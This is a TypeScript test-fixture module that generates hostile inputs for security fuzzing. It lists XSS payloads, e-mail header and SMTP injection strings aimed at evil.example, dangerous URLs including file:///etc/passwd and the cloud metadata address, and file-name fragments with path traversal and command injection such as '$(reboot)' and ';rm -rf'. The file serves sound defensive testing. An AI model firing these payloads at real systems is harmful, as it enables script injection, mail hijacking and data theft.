import { between, oneOf, randomFrom } from "./random.ts"

/** What runs when somewhere a text is taken for markup, an attribute, a script, a style or a template. */
const MARKUP = [
	"<script>alert(1)</script>",
	"</script><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	'"><img src=x onerror=alert(1)>',
	"'><svg/onload=alert(1)>",
	'" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
	"' onclick='alert(1)",
	"<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
	'<iframe srcdoc="<script>alert(1)</script>">',
	"<details open ontoggle=alert(1)>",
	'<a href="javascript:alert(1)">karibu</a>',
	"<base href=https://evil.example/>",
	'<meta http-equiv=refresh content="0;url=https://evil.example/">',
	"<form action=https://evil.example/><input name=password>",
	"<style>@import'https://evil.example/x.css';</style>",
	'<link rel=stylesheet href="https://evil.example/x.css">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
	"<template><img src=x onerror=alert(1)></template>",
	"<!--><img src=x onerror=alert(1)>-->",
	"]]><img src=x onerror=alert(1)>",
	"$" + "{alert(1)}",
	"{{constructor.constructor('alert(1)')()}}",
	"`;alert(1)//",
	"';alert(1);//",
	'";alert(1);//',
	"\\u003cimg src=x onerror=alert(1)\\u003e",
	"&lt;img src=x onerror=alert(1)&gt;",
	"&#x3C;script&#x3E;alert(1)",
	"%3Cscript%3Ealert(1)%3C/script%3E",
	"\u2028<img src=x onerror=alert(1)>",
	"<ımg src=x onerror=alert(1)>",
	"＜script＞alert(1)＜/script＞",
	"<x contenteditable onblur=alert(1)>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\">",
	"__proto__",
	"constructor",
	"$&$1$$",
	"%s%n%00",
	"\ufeff<img src=x onerror=alert(1)>",
	"\u202e<img src=x onerror=alert(1)>",
	"[link](javascript:alert(1))",
]

/** What could end a header, begin another one, or reach somebody else. */
const HEADERS = [
	"Udongo\r\nBcc: victim@evil.example",
	"Udongo\nBcc: victim@evil.example",
	"Udongo\r\n\r\n<script>alert(1)</script>",
	"Udongo\u2028Bcc: victim@evil.example",
	"Udongo\u0085Bcc: victim@evil.example",
	"Udongo%0d%0aBcc: victim@evil.example",
	"Udongo\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@evil.example>",
	"=?utf-8?Q?=0D=0ABcc:_victim=40evil.example?=",
	"Udongo, victim@evil.example",
	"<victim@evil.example>",
	"\0Udongo",
	"\r\n.\r\n",
	"--boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
]

/** As e-mail addresses. */
export const HOSTILE_ADDRESSES = [
	"potter@udongo.example\r\nBcc: victim@evil.example",
	"potter@udongo.example, victim@evil.example",
	"potter@udongo.example; victim@evil.example",
	"potter@udongo.example victim@evil.example",
	"<victim@evil.example> potter@udongo.example",
	"Potter <victim@evil.example>",
	'"potter@udongo.example" <victim@evil.example>',
	"potter(victim@evil.example)@udongo.example",
	"potter@udongo.example>\r\nRCPT TO:<victim@evil.example",
	"victim@evil.example\0@udongo.example",
	"group: victim@evil.example;",
	"@evil.example:potter@udongo.example",
	"potter@udongo.example\u2028victim@evil.example",
	"",
]

/** As addresses of web pages: none of them may become a link that runs, leaves the web or hides where it leads. */
export const HOSTILE_LINKS = [
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	"java\nscript:alert(1)",
	"\u0001javascript:alert(1)",
	" javascript:alert(1)",
	"javascript://udongo.example/%0aalert(1)",
	"data:text/html,<script>alert(1)</script>",
	"vbscript:msgbox(1)",
	"file:///etc/passwd",
	"blob:https://udongo.example/x",
	"view-source:https://udongo.example",
	"//evil.example",
	"\\\\evil.example\\share",
	"https:evil.example",
	"https://user:password@evil.example/",
	"https://tamasha.example@evil.example/",
	"http://127.0.0.1:22/",
	"http://169.254.169.254/latest/meta-data/",
	'https://udongo.example/"onmouseover="alert(1)',
	"https://udongo.example/<script>alert(1)</script>",
	"ht\ttps://evil.example",
	"feed:javascript:alert(1)",
	"intent://evil.example#Intent;scheme=javascript;end",
]

/** As names of files. */
const NAME_FRAGMENTS = [
	"..",
	".",
	"/",
	"\\",
	"\0",
	"\n",
	"%2e%2e%2f",
	"..%c0%af",
	"~",
	":",
	"C:",
	"\\\\server\\share",
	"/etc/passwd",
	"CON",
	"nul.pdf",
	"$(reboot)",
	"`id`",
	";rm -rf",
	"|cat",
	"a",
	"é",
	"日本",
	"😀",
	"\u202efdp.exe",
	" ",
	"-",
	"--",
	"'",
	'"',
	"<script>",
	"%00",
	".htaccess",
	"form.pdf",
	"\ud800",
	"\u0301",
	"....//",
	"file://",
	"\r\nX: y",
]

export function hostileFileNames(seed: number, count: number): string[] {
	const random = randomFrom(seed)
	return Array.from({ length: count }, () =>
		Array.from({ length: between(random, 1, 7) }, () => oneOf(random, NAME_FRAGMENTS)).join(""),
	)
}

/** Texts for any field: every payload by itself, then mixed with each other. NUL is left to those that take it. */
export function hostileTexts(seed: number, count: number): string[] {
	const random = randomFrom(seed)
	const all = [...MARKUP, ...HEADERS]
	const mixed = Array.from({ length: Math.max(0, count - all.length) }, () =>
		[oneOf(random, all), oneOf(random, ["", " ", "Udongo", "\n", "&", '"']), oneOf(random, all)].join(""),
	)
	return [...all, ...mixed].slice(0, count).map((text) => text.replaceAll("\0", ""))
}
